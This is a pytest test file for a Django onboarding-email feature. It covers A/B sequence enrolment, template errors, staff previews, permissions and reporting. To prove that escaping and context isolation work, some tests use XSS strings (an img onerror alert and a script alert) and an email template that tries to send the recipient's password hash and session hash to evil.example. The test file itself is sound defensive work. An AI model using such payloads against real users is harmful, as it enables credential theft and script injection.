"""Enrolment on signup: the experiment picks the sequence, once per user."""

from __future__ import annotations

import re
import uuid
from datetime import datetime

import pytest
from django.urls import reverse

from accounts.services import organization_create_for_signup, user_signup_record
from experiments.events import EXPERIMENT_EXPOSED
from experiments.models import Event, Exposure
from onboarding import events
from onboarding.models import Enrolment, Send
from onboarding.services.enrolments import enrolment_create
from onboarding.services.sending import send_deliver
from onboarding.services.tick import onboarding_tick

from ..experiments.factories import experiment_with
from ..factories import UserFactory
from .factories import StepFactory, fourteen_day_sequence


@pytest.fixture
def onboarding_experiment(db, settings):
    settings.ONBOARDING_EXPERIMENT_KEY = "onboarding-emails"
    fourteen_day_sequence("short-subjects")
    fourteen_day_sequence("long-subjects")
    experiment = experiment_with(("short", 1.0), ("long", 1.0), ("none", 1.0), key="onboarding-emails")
    experiment.variations.filter(key="short").update(value="short-subjects")
    experiment.variations.filter(key="long").update(value="long-subjects")
    experiment.variations.filter(key="none").update(holdout=True)
    return experiment


def test_a_verified_signup_is_enrolled_in_its_variation_s_sequence(catalog, onboarding_experiment):
    sequences = {"short": "short-subjects", "long": "long-subjects", "none": None}
    seen = set()
    for index in range(12):
        # Fixed public ids: the assignment (a hash of them) is then the same on every run.
        user = UserFactory(email=f"signup-{index}@enrol.example", public_id=uuid.UUID(int=1000 + index))
        user_signup_record(user=user, product_code="tracker", edition_code="standard", utm={"utm_source": "ads"})
        organization = organization_create_for_signup(user=user)  # fires organization_created

        enrolment = Enrolment.objects.get(user=user)
        exposure = Exposure.objects.get(experiment=onboarding_experiment, user=user)
        assert enrolment.organization == organization
        assert (enrolment.experiment_key, enrolment.variation_key) == ("onboarding-emails", exposure.variation_key)
        assert (enrolment.sequence.key if enrolment.sequence else None) == sequences[exposure.variation_key]
        assert enrolment.status == ("holdout" if exposure.variation_key == "none" else "active")
        assert exposure.organization == organization and exposure.unit_id == str(user.public_id)
        seen.add(exposure.variation_key)

        # Enrolling again (a second verification, a retry) changes nothing and exposes nobody twice.
        assert enrolment_create(user=user, organization=organization).pk == enrolment.pk
        assert Exposure.objects.filter(user=user).count() == 1
        assert Event.objects.filter(name=EXPERIMENT_EXPOSED, user=user).count() == 1
        assert Event.objects.filter(name=events.ONBOARDING_ENROLLED, user=user).count() == 1
    assert seen == {"short", "long", "none"}


def test_without_a_running_experiment_everyone_gets_the_default_sequence_or_nothing(db, settings):
    settings.ONBOARDING_EXPERIMENT_KEY = "not-defined"
    fourteen_day_sequence("default-seq")
    settings.ONBOARDING_DEFAULT_SEQUENCE = ""
    assert enrolment_create(user=UserFactory()) is None
    settings.ONBOARDING_DEFAULT_SEQUENCE = "default-seq"
    enrolment = enrolment_create(user=UserFactory())
    assert (enrolment.sequence.key, enrolment.variation_key, enrolment.status) == ("default-seq", "", "active")


def test_a_broken_template_never_breaks_signup_and_is_caught_in_the_admin(settings, admin_client):
    settings.ONBOARDING_DEFAULT_SEQUENCE = "broken"
    settings.ONBOARDING_EXPERIMENT_KEY = "not-defined"
    settings.ONBOARDING_QUIET_HOURS_START = settings.ONBOARDING_QUIET_HOURS_END = 0
    step = StepFactory(sequence__key="broken", position=0, subject="Hi {% if first_name %}")
    user = UserFactory(email="broken-template@example.com")
    enrolment_create(user=user)
    [send_id] = onboarding_tick().send_ids
    assert send_deliver(send_id=send_id) == "failed"  # rescheduled, visible to staff
    assert "TemplateSyntaxError" in Send.objects.get(pk=send_id).last_error

    response = admin_client.post(
        reverse("admin:onboarding_step_change", args=[step.pk]),
        {"sequence": step.sequence.pk, "position": 0, "delay": "0", "delay_from": "enrolment", "skip_condition": "",
         "subject": "Hi {% if first_name %}", "html_body": "<p>x</p>", "text_body": "x", "name": ""},
    )
    assert response.status_code == 200
    assert b"Template error" in response.content


def test_staff_preview_a_step_with_sample_data(admin_client):
    step = StepFactory(sequence__key="preview", subject="Welcome to {{ product }}, {{ first_name }}",
                       html_body='<p class="x">Hi <b>{{ first_name }}</b> of {{ organization_name }}</p>')
    response = admin_client.get(reverse("admin:onboarding_step_preview", args=[step.pk]))
    assert response.status_code == 200
    content = response.content.decode()
    assert "Subject: Welcome to Tracker, Ada" in content
    assert "Hello Ada of Acme Rockets." in content
    # The HTML, escaped into the sandboxed iframe (quotes too, or they would end the attribute).
    assert 'srcdoc="&lt;p class=&quot;x&quot;&gt;Hi &lt;b&gt;Ada&lt;/b&gt;' in content


def test_the_preview_prints_markup_in_the_subject_and_text_as_text(admin_client):
    step = StepFactory(sequence__key="preview-markup", subject='<img src=x onerror="alert(1)"> {{ first_name }}',
                       text_body="<script>alert(2)</script> & {{ first_name }}")
    content = admin_client.get(reverse("admin:onboarding_step_preview", args=[step.pk])).content.decode()
    assert "<script>alert(2)" not in content and "<img src=x" not in content
    assert "&lt;script&gt;alert(2)&lt;/script&gt; &amp; Ada" in content
    assert "Subject: &lt;img src=x onerror=&quot;alert(1)&quot;&gt; Ada" in content


def test_a_staff_user_without_permission_on_steps_cannot_preview_one(client, db):
    step = StepFactory(sequence__key="preview-denied", subject="Internal: {{ first_name }}", html_body="<p>draft pricing</p>")
    client.force_login(UserFactory(email="intern@example.com", is_staff=True))
    assert client.get(reverse("admin:onboarding_step_change", args=[step.pk])).status_code == 403
    assert client.get(reverse("admin:onboarding_step_preview", args=[step.pk])).status_code == 403


def test_a_step_sees_what_the_preview_sees_and_no_secret_of_the_recipient(db, settings, mailoutbox):
    # A template cannot walk from the recipient to their password hash (into an image on
    # another host, which is not rewritten): the context holds plain values, the very names
    # the preview has, so what staff preview is what goes out.
    settings.ONBOARDING_DEFAULT_SEQUENCE = "no-secrets"
    settings.ONBOARDING_EXPERIMENT_KEY = "no-such-experiment"
    settings.ONBOARDING_QUIET_HOURS_START = settings.ONBOARDING_QUIET_HOURS_END = 0
    step = fourteen_day_sequence("no-secrets").steps.get(position=0)
    step.html_body = '<html><body><img src="https://evil.example/p.gif?h={{ user.password|urlencode }}&s={{ user.get_session_auth_hash }}"></body></html>'
    step.text_body = "[{{ user.password }}] [{{ user }}]"
    step.save()
    user = UserFactory(email="recipient@example.com")
    enrolment_create(user=user)
    [send_id] = onboarding_tick().send_ids
    assert send_deliver(send_id=send_id) == "sent"
    [message] = mailoutbox
    assert message.body.startswith("[] []")
    assert 'src="https://evil.example/p.gif?h=&s="' in message.alternatives[0][0]
    assert user.password not in message.body + message.alternatives[0][0]

    from onboarding.services.messages import Links, recipient_context
    from onboarding.services.rendering import sample_context

    send = Send.objects.select_related("enrolment__user", "enrolment__organization").get(pk=send_id)
    real = recipient_context(send.enrolment, trial=None, links=Links.resolve(), unsubscribe="u")
    assert real.keys() == sample_context().keys()
    assert all(value is None or isinstance(value, str | datetime) for value in real.values())


def test_the_staff_report_counts_per_variation(client, admin_client, onboarding_experiment, settings):
    settings.ONBOARDING_QUIET_HOURS_START = settings.ONBOARDING_QUIET_HOURS_END = 0
    for index in range(9):
        enrolment_create(user=UserFactory(email=f"report-{index}@example.com", public_id=uuid.UUID(int=2000 + index)))
    for send_id in onboarding_tick().send_ids:
        send_deliver(send_id=send_id)
    assert client.get(reverse("staff_onboarding"))["Location"].startswith("/accounts/login/?next=")  # staff only
    response = admin_client.get(reverse("staff_onboarding"))
    assert response.status_code == 200
    rows = {row.variation_key: row for row in response.context["reports"]}
    page = response.content.decode()
    # Variations by name with their role, as on the experiment pages; the holdout is the baseline.
    assert re.search(r'<tr data-variation="none">.*?None <span class="status active">Holdout \(baseline\)</span>', page, re.S)
    assert re.search(r'<tr data-variation="short">.*?Short <span class="status">Treatment</span>', page, re.S)
    assert sum(row.enrolled for row in rows.values()) == 9
    assert rows["none"].sent == 0 and rows["none"].holdout == rows["none"].enrolled
    assert sum(row.sent for row in rows.values()) == 9 - rows["none"].enrolled
